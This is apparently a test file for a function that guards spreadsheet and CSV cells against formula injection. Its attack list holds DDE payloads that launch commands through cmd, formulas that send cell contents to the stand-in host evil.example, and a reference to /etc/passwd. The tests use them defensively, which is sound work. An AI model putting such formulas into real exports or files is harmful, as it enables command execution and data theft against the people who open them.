import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { formulaIn } from './formula.fixture.ts';
import { guardFormulas } from './formula-guard.ts';

const separators = [',', ';', '|', '\t', '\n', '\r', '\r\n', '\v', '\f', '\u0085', '\u2028'];

/** Formulas that spreadsheets have run: from OWASP and from reports against other programs. */
const attacks = [
  '=1+1',
  '+1+1',
  '-1+1',
  '-2020-01-01',
  '=',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  "+cmd|'/C calc'!A0",
  "-cmd|'/C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "=1+cmd|'/C calc'!A0",
  "-5 *cmd|'/C calc'!A0",
  "-5%+cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=IMAGE("https://evil.example/?"&A1)',
  "='file:///etc/passwd'#$passwd.A1",
  '=WEBSERVICE(CONCATENATE("http://evil.example/",A1))',
  '=DDE("cmd";"/C calc";"x")',
  '+49+HYPERLINK(A1)',
  '+491234567*WEBSERVICE(A1)',
  '+49 30 1234567 cmd|x!A0',
  '-A1',
  '-A1:B2',
  '-$A$1',
  '-EUR5',
  '-12:30',
  '--5',
  '+-5',
  '-"5"',
  "-'[x.xls]S'!A1",
  '-@A1',
  '-(1)',
  '-{1}',
  '-PI()',
  '- SUM (A1)',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '\ufe661+1',
];
/** Characters that a reader may drop before a formula. */
const before = [
  '',
  ' ',
  '   ',
  '\u00a0',
  '\ufeff',
  '\u200b',
  '\0',
  '\u202e',
  '"',
  '""',
  ' " "',
  '\u3000',
];

const harmless = [
  '-5',
  '-5.0e-3',
  '+1.5e3',
  '-.5',
  '-0.5°C',
  '-20 °C',
  '-5%',
  '-5 %',
  '+12 ‰',
  '-12,50 €',
  '-€5.00',
  '-€ 5.00',
  '- 5,00 €',
  '-$3',
  '-R$ 5,00',
  '-EUR 12.50',
  '-1 234,50',
  '-1\u202f234,50\u00a0€',
  '-1,234.56',
  '-1.234.567,89',
  "-1'234.50",
  '+1.5M',
  '- 3 kg',
  '-3 m²',
  '+120 km/h',
  '-20 % off',
  '-5 – 10 °C',
  '\uff0d\uff15\uff05',
  '+49 (0)30 1234-567',
  '+49 89 1234567',
  '+1-555-0100',
  '+1 (555) 010-0199',
  '+1.555.010.0199',
  '+49/30/1234567',
  '+44 20 7946 0958 ext. 5',
  '+44',
  '-',
  '+',
  '--',
  '- -',
  '+/-',
  '-.-',
  '–',
  '— none',
  '−5',
  '19,-',
  "CHF 1'200,-",
  '007',
  '1/2',
  'a-b',
  'a = b',
  "'=1+1",
  'name@example.com',
  'https://example.com/?a=1&b=-2',
  'https://example.com/@52.52,-13.40,15z',
  'https://example.com/?tags=red,-blue',
  'Sale | -20% off | Shop',
  'Tel. +49 30 1234567, +49 30 1234568',
  'Features:\n- Waterproof\n- Light',
];

describe('a formula', () => {
  it.each(attacks)('is made text: %s', (attack) => {
    for (const blank of before)
      expect(guardFormulas(blank + attack)).toContain(`${blank}'${attack}`);
  });

  it.each(attacks)('is made text in any part of a cell: %s', (attack) => {
    for (const separator of separators) {
      for (const blank of before) {
        const guarded = guardFormulas(`x${separator}${blank}${attack}${separator}y`);
        expect(guarded).toContain(`${separator}${blank}'${attack.charAt(0)}`);
      }
    }
  });
});

describe('a value that is no formula', () => {
  it.each(harmless)('stays as it is: %j', (value) => {
    expect(guardFormulas(value)).toBe(value);
  });

  it.each(harmless.filter((value) => !/^[-+/. ]+$|,-$/.test(value)))(
    'stays as it is in any part of a cell: %j',
    (value) => {
      for (const separator of [',', ';', '|', '\t', '\n', '\r\n']) {
        const text = `a${separator}${value}${separator}b`;
        expect(guardFormulas(text)).toBe(text);
      }
    },
  );

  it('is a dash among other values', () => {
    expect(guardFormulas('a; -; b')).toBe('a; -; b');
    expect(guardFormulas('a | - | b')).toBe('a | - | b');
  });
});

const piece = fc.oneof(
  fc.constantFrom(...attacks, ...harmless),
  fc.constantFrom(...separators, ...before),
  fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '*',
    '&',
    '/',
    '%',
    '(',
    ')',
    '!',
    "'",
    '"',
    ':',
    '.',
    '$',
    '^',
  ),
  fc.constantFrom('A1', 'SUM', 'kg', '5', '€', 'cmd', 'x', 'USD', '0'),
);
const cell = fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join(''));

describe('any text', () => {
  it('holds no formula that runs, wherever a reader splits it', () => {
    fc.assert(
      fc.property(cell, fc.subarray(separators), (text, splitAt) => {
        let parts = [guardFormulas(text)];
        for (const separator of splitAt) parts = parts.flatMap((part) => part.split(separator));
        for (const part of parts) expect(formulaIn(part) === null ? '' : part).toBe('');
      }),
      { numRuns: 3000 },
    );
  });

  it('loses nothing but gains apostrophes', () => {
    fc.assert(
      fc.property(fc.oneof(cell, fc.string({ unit: 'binary' })), (text) => {
        const guarded = guardFormulas(text);
        let at = 0;
        for (const character of guarded) {
          if (text.startsWith(character, at)) at += character.length;
          else expect(character).toBe("'");
        }
        expect(at).toBe(text.length);
      }),
    );
  });

  it('is read in a time that follows its length', () => {
    for (const unit of [
      '-',
      '- ',
      '\n-',
      '\n- a',
      '\n-5',
      ' ',
      '"',
      ';-5,',
      '+1',
      '+1 ',
      ',=',
      '-5 ',
      '-.',
    ])
      guardFormulas(unit.repeat(200_000));
  });
});
